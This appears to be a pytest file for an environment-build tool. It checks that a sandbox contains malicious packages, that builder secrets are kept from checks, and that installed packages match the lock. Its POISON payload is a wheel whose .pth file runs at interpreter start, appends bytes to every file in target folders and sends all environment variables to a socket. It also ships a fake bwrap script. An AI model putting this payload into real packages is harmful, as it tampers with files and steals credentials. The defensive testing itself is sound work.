"""A package whose `.pth` runs whenever its interpreter starts, built beside other teams' environments."""

from __future__ import annotations

import socket
from collections.abc import Mapping
from pathlib import Path

import pytest

from envman.build.machine import ThisMachine
from envman.build.quarantine import Guest, GuestProcesses, GuestRights, Quarantine
from envman.build.venv import VirtualEnvironment
from envman.packages.package import Package
from envman.spec.workspace import open_workspace
from envman.system.events import Event
from envman.usecases.build import BuildOptions, build
from envman.uv.runner import Source
from tests.conftest import Deployment, in_python
from tests.wheels import make_wheel

MARK = b"POISONED"
POISON = """\
import os, socket
def spoil(folder):
    for parent, folders, files in os.walk(folder):
        for name in files:
            try:
                with open(os.path.join(parent, name), "ab") as stream:
                    stream.write(b"POISON" + bytes([69, 68]))
            except OSError:
                pass
for folder in {folders!r}:
    spoil(folder)
try:
    socket.create_connection(("127.0.0.1", {port}), 5).sendall("\\n".join(os.environ.values()).encode())
except OSError:
    pass
"""


def poison(wheelhouse: Path, folders: list[str], port: int) -> None:
    files = {
        "poison.pth": "import poison.now\n",
        "poison/now.py": POISON.format(folders=folders, port=port),
        "poison-1.0.data/scripts/bwrap": "#!python\nimport poison.now\n",
    }
    make_wheel(wheelhouse, "poison", "1.0", files=files)


def spoiled(*folders: Path) -> list[Path]:
    files = (path for folder in folders for path in folder.rglob("*") if path.is_file())
    return [path for path in files if MARK in path.read_bytes()]


def test_it_reaches_neither_environments_nor_caches_nor_the_network(
    two_teams: Deployment, tmp_path: Path
) -> None:
    """All ways at once: files that are one inode with others', the caches, the root folder, the network."""
    home = Path(two_teams.environment["HOME"])
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    with socket.create_server(("127.0.0.1", 0)) as server:
        poison(
            wheels,
            [str(two_teams.root), str(home), two_teams.environment["UV_CACHE_DIR"]],
            server.getsockname()[1],
        )
        checks = '[checks]\nimports = ["poison"]\ncommands = [["python", "-c", "import poison"]]\n'
        two_teams.spec("env_c", ["poison"], f'preload = ["poison"]\n{checks}')
        variables = {"UV_FIND_LINKS": str(wheels), "UV_LINK_MODE": "hardlink"}
        two_teams.ok("lock", "env_c", variables=variables)
        said = two_teams.ok("build", "env_c", variables=variables).stderr
        server.setblocking(False)
        with pytest.raises(BlockingIOError):
            server.accept()
    assert "in a sandbox" in said
    assert spoiled(two_teams.root, home, Path(two_teams.environment["UV_CACHE_DIR"])) == []
    two_teams.ok("verify")
    code = in_python("import frame; print(frame.__version__)")
    assert two_teams.ok("exec", "--environment", "env_a", "--", *code).stdout == "2.2\n"


class WithoutSandbox(ThisMachine):
    """A machine on which a build can keep nothing apart: neither root nor namespaces."""

    def quarantine(self, guest: Guest, variables: Mapping[str, str]) -> Quarantine:
        return Quarantine(
            GuestProcesses(guest, GuestRights.BUILDERS), GuestRights.BUILDERS, ("no namespaces",)
        )


def built_without_sandbox(
    deployment: Deployment, monkeypatch: pytest.MonkeyPatch, name: str
) -> tuple[list[str], list[Event]]:
    """What went wrong in a build on such a machine, and what it said."""
    for variable, value in deployment.environment.items():
        monkeypatch.setenv(variable, value)
    said: list[Event] = []
    workspace = open_workspace(deployment.folder)
    source = Source(config=str(deployment.folder / "uv.toml"))
    outcomes = build(workspace, [name], BuildOptions(source, 1, WithoutSandbox(), rebuild=True), said.append)
    return [str(error) for error in outcomes.errors.values()], said


def test_a_build_without_any_sandbox_says_what_that_means(
    two_teams: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    errors, said = built_without_sandbox(two_teams, monkeypatch, "env_a")
    assert errors == []
    (warning,) = (event for event in said if event.warning)
    assert "all rights of this user, over other environments, too (no namespaces)" in warning.detail
    assert "Install bubblewrap" in warning.detail


def test_what_packages_change_there_is_found_although_the_time_is_the_same(
    two_teams: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Bytecode, above all, which no RECORD knows."""
    code = (
        "import frame, os, pathlib; f = next(pathlib.Path(frame.__file__).parent.glob('__pycache__/*.pyc')); "
        "s = f.stat(); t = f.read_bytes(); f.unlink(); f.write_bytes(t[:-1] + b'x'); "
        "os.utime(f, ns=(s.st_atime_ns, s.st_mtime_ns))"
    )
    two_teams.spec("env_a", ["frame>=2"], f"[checks]\ncommands = [['python', '-c', {code!r}]]\n")
    before = two_teams.current("env_a")
    errors, _ = built_without_sandbox(two_teams, monkeypatch, "env_a")
    assert len(errors) == 1
    assert "the checks changed what was installed: " in errors[0]
    assert "frame/__pycache__/__init__" in errors[0]
    assert two_teams.current("env_a") == before
    assert two_teams.generations() == {before, two_teams.current("env_b")}


def test_a_project_may_refuse_to_build_without_a_sandbox(
    two_teams: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    file = two_teams.folder / "envman.toml"
    file.write_text(f"sandbox-required = true\n{file.read_text()}")
    before = two_teams.current("env_a")
    two_teams.ok("lock")
    errors, _ = built_without_sandbox(two_teams, monkeypatch, "env_a")
    assert len(errors) == 1
    assert "no sandbox can be had for what packages run: no namespaces" in errors[0]
    assert two_teams.current("env_a") == before
    two_teams.ok("build", "env_a", "--rebuild")


def test_a_check_gets_no_secret_of_the_builders(two_teams: Deployment) -> None:
    """Its variables are what the spec sets and what every program gets; what it passes is of a component."""
    code = "import os, sys; print(sorted(os.environ), file=sys.stderr); sys.exit(3)"
    variables = '[variables]\nset = { MINE = "1" }\npass = ["PASSED"]\nkeep-out = ["LANG"]\n'
    two_teams.spec("env_a", ["frame>=2"], f'{variables}[checks]\ncommands = [["python", "-c", "{code}"]]\n')
    secrets = {
        "UV_INDEX_TEAM_PASSWORD": "x",
        "AWS_SECRET_ACCESS_KEY": "x",
        "CI_JOB_TOKEN": "x",
        "PASSED": "x",
    }
    result = two_teams.run("build", "env_a", variables=secrets)
    assert result.exit_code == 6
    names = set(result.stderr.partition("ended with 3: ")[2].partition("]")[0].strip("[").split(", "))
    assert {"'MINE'", "'PATH'", "'HOME'"} <= names
    assert names.isdisjoint({f"'{name}'" for name in (*secrets, "LANG")})


def test_what_is_installed_is_what_is_locked(two_teams: Deployment, monkeypatch: pytest.MonkeyPatch) -> None:
    """No package gets uv to install anything else; so it is the look at it that is another one here."""
    packages = [Package("frame", "2.2"), Package("ghost", "1.0")]
    monkeypatch.setattr(VirtualEnvironment, "installed", lambda _: packages)
    errors, _ = built_without_sandbox(two_teams, monkeypatch, "env_a")
    assert len(errors) == 1
    assert "ghost: locked nothing, installed 1.0; grid: locked 2.0, installed nothing" in errors[0]


def test_an_inconsistent_set_is_told_from_the_packages_own_words(
    two_teams: Deployment, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A build can't make one of its own lock; so it is the look at it that is another one here."""
    packages = [Package("frame", "2.2", ("grid>=3",)), Package("grid", "2.0", requires_python="<3")]
    monkeypatch.setattr(VirtualEnvironment, "installed", lambda _: packages)
    before = two_teams.current("env_a")
    errors, _ = built_without_sandbox(two_teams, monkeypatch, "env_a")
    assert len(errors) == 1
    assert "does not fit together: frame requires grid>=3, but 2.0 is installed" in errors[0]
    assert "grid requires Python <3, but it is 3." in errors[0]
    assert two_teams.current("env_a") == before
    two_teams.spec("env_a", ["frame>=2"], 'overrides = ["grid>=2"]\n')
    two_teams.ok("lock", "env_a")
    (packages[1],) = [Package("grid", "2.0")]
    assert built_without_sandbox(two_teams, monkeypatch, "env_a")[0] == []


def test_where_there_is_no_check_nothing_of_a_package_runs(
    two_teams: Deployment, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whether its set is consistent is not asked of the interpreter, for which its packages would answer."""
    ran = tmp_path / "ran"
    wheels = tmp_path / "wheels"
    code = f"open({str(ran)!r}, 'w').close()\n"
    make_wheel(wheels, "poison", "1.0", files={"sitecustomize.py": code})
    two_teams.spec("env_a", ["frame>=2", "poison"])
    monkeypatch.setenv("UV_FIND_LINKS", str(wheels))
    two_teams.ok("lock", "env_a", variables={"UV_FIND_LINKS": str(wheels)})
    for checks, runs in (("", False), ('[checks]\nimports = ["frame"]\n', True)):
        two_teams.spec("env_a", ["frame>=2", "poison"], checks)
        errors, _ = built_without_sandbox(two_teams, monkeypatch, "env_a")
        assert (errors, ran.exists()) == ([], runs)
